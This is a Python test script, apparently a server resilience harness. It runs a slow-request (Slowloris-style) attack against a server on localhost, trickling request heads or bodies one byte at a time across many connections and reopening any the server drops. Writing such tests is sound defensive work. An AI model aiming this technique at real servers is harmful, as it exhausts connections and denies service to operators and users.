#!/usr/bin/env python3
"""Holds N connections to a server, each sending its request head one byte every INTERVAL
seconds, from ADDRESSES loopback addresses (127.0.0.FIRST and up, N / ADDRESSES each). With
MODE "body" each sends its whole head at once (Content-Length: 100000) and then its body one
byte every INTERVAL seconds. A connection the server closes is opened again at once, so the
attack stays at N. Runs for SECONDS, then prints "trickle open_min=... open_max=...
reopened=... refused=..." and exits.

Usage: trickle.py PORT N ADDRESSES INTERVAL SECONDS [MODE [FIRST]]   (MODE head or body, FIRST 2)
"""

import selectors
import socket
import sys
import time

port, count, addresses, interval, seconds = (
    int(sys.argv[1]), int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4]), float(sys.argv[5]))
mode = sys.argv[6] if len(sys.argv) > 6 else "head"
first = int(sys.argv[7]) if len(sys.argv) > 7 else 2
head = b"POST /v2/notifications HTTP/1.1\r\nHost: a\r\nContent-Length: 100\r\n\r\n"
if mode == "body":
    head = b"POST /v2/notifications HTTP/1.1\r\nHost: a\r\nContent-Length: 100000\r\n\r\n"
    body = b"{" * 99_999
selector = selectors.DefaultSelector()
state = {}  # socket -> (source, bytes sent)
reopened = refused = 0


def open_one(source):
    global refused
    connection = socket.socket()
    try:
        connection.bind((source, 0))
        connection.connect(("127.0.0.1", port))
    except OSError:
        refused += 1
        connection.close()
        return
    connection.setblocking(False)
    state[connection] = [source, 0]
    if mode == "body":
        try:
            connection.send(head)
        except OSError:
            pass
    selector.register(connection, selectors.EVENT_READ)


sources = [f"127.0.0.{first + index % addresses}" for index in range(count)]
for source in sources:
    open_one(source)
print(f"trickle opened={len(state)} refused={refused}", flush=True)
end = time.monotonic() + seconds
next_byte = time.monotonic() + interval
open_min, open_max = len(state), len(state)
while time.monotonic() < end:
    for key, _ in selector.select(timeout=0.2):
        connection = key.fileobj
        try:
            data = connection.recv(4096)
        except OSError:
            data = b""
        if not data:  # closed by the server: open another in its place
            source = state.pop(connection)[0]
            selector.unregister(connection)
            connection.close()
            reopened += 1
            open_one(source)
    if time.monotonic() >= next_byte:
        next_byte += interval
        for connection, entry in list(state.items()):
            if mode == "body":
                if entry[1] < len(body):  # never the whole body
                    try:
                        connection.send(body[entry[1]:entry[1] + 1])
                        entry[1] += 1
                    except OSError:
                        pass
            elif entry[1] < len(head) - 1:  # never the whole head
                try:
                    connection.send(head[entry[1]:entry[1] + 1])
                    entry[1] += 1
                except OSError:
                    pass
    open_min, open_max = min(open_min, len(state)), max(open_max, len(state))
print(f"trickle open_min={open_min} open_max={open_max} reopened={reopened} refused={refused}", flush=True)
